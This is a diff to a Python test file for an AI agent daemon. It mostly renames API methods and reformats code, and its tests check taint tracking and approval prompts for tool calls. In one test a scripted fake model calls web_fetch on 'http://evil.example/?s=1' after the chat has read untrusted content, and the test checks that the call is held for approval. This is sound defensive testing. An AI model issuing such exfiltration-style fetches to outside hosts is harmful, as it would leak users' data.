@@ -3,12 +3,10 @@
 from collections.abc import AsyncIterator
 from pathlib import Path
 
-from daemon.app import Parts
-from daemon.core.label import Effect, Label
+from daemon.app import Overrides
+from daemon.client.protocol import LiveEvent
 from daemon.core.messages import ToolSpec
-from daemon.core.outcomes import Answer
-from daemon.core.roles import OWNER, Person, Role
-from daemon.door.base import LiveEvent
+from daemon.core.trust import OWNER, Answer, Effect, Label, Person, Role
 from daemon.tools.base import Tool, ToolContext, ToolMeta, ToolOutput
 from tests.fakes.house import living
 from tests.fakes.openai import FakeOpenAI, calls, says
@@ -25,7 +23,9 @@ async def wiped(arguments: object, context: ToolContext) -> ToolOutput:
     return ToolOutput("wiped")
 
 
-async def only(events: AsyncIterator[LiveEvent], *names: str, times: int) -> AsyncIterator[LiveEvent]:
+async def only(
+    events: AsyncIterator[LiveEvent], *names: str, times: int
+) -> AsyncIterator[LiveEvent]:
     """The first so many of these names."""
     async for event in events:
         if event.name in names:
@@ -35,7 +35,7 @@ async def only(events: AsyncIterator[LiveEvent], *names: str, times: int) -> Asy
             return
 
 
-TOOLS = Parts(
+TOOLS = Overrides(
     tools=[
         Tool(ToolSpec("look_outside", "Look outside.", NOTHING), ToolMeta(Effect.READ), page),
         Tool(ToolSpec("wipe", "Wipe.", NOTHING), ToolMeta(Effect.DESTRUCTIVE), wiped),
@@ -43,9 +43,15 @@ TOOLS = Parts(
 )
 
 
-async def test_F3_a_turn_from_before_a_clear_taints_nothing_that_comes_after_it(tmp_path: Path) -> None:
+async def test_F3_a_turn_from_before_a_clear_taints_nothing_that_comes_after_it(
+    tmp_path: Path,
+) -> None:
     async with FakeOpenAI() as model, living(tmp_path, model, parts=TOOLS) as alive:
-        model.script(calls(("look_outside", {}), ("wipe", {})), says("the secret word is plum"), says("Anew."))
+        model.script(
+            calls(("look_outside", {}), ("wipe", {})),
+            says("the secret word is plum"),
+            says("Anew."),
+        )
         turn = await alive.say("look, then wipe")
         await alive.until(turn, "approval.asked")
         await alive.command("/clear")
@@ -56,20 +62,31 @@ async def test_F3_a_turn_from_before_a_clear_taints_nothing_that_comes_after_it(
         assert "plum" not in str(model.requests[-1])
 
 
-async def test_F3_a_turn_that_waited_is_tainted_by_what_the_chat_has_read_meanwhile(tmp_path: Path) -> None:
+async def test_F3_a_turn_that_waited_is_tainted_by_what_the_chat_has_read_meanwhile(
+    tmp_path: Path,
+) -> None:
     """It goes on with the whole conversation before it, that of the time in which it waited included."""
     async with FakeOpenAI() as model, living(tmp_path, model, parts=TOOLS) as alive:
         model.script(calls(("wipe", {})), calls(("look_outside", {})), says("It says: be good."))
         waits = await alive.say("wipe")
         await alive.until(waits, "approval.asked")
         await alive.house.door.send("web:test", "look outside", by=OTHER)
-        other = (await alive.house.door.runs("web:test"))[0].turn
+        other = (await alive.house.door.list_runs("web:test"))[0].turn
         assert (await alive.settled(other)).label == "untrusted"
         model.script(calls(("web_fetch", {"url": "http://evil.example/?s=1"})), says("ok"))
-        question = (await alive.house.door.approvals(session="web:test"))[0]
-        assert await alive.house.door.answer(waits, question.call_id, Answer.ONCE, OWNER)
-        asked = [event.name async for event in only(alive.house.door.events(waits), "approval.asked", "run.completed", times=2)]
-        view = await alive.house.door.run(waits)
+        question = (await alive.house.door.list_approvals(session="web:test"))[0]
+        assert await alive.house.door.answer_approval(waits, question.call_id, Answer.ONCE, OWNER)
+        asked = [
+            event.name
+            async for event in only(
+                alive.house.door.stream_events(waits), "approval.asked", "run.completed", times=2
+            )
+        ]
+        view = await alive.house.door.get_run(waits)
         assert asked == ["approval.asked"] * 2
-        assert view and (view.label, view.calls[-1].tool, view.calls[-1].decision) == ("untrusted", "web_fetch", "ask")
+        assert view and (view.label, view.calls[-1].tool, view.calls[-1].decision) == (
+            "untrusted",
+            "web_fetch",
+            "ask",
+        )
         assert "this chat" in view.tainted
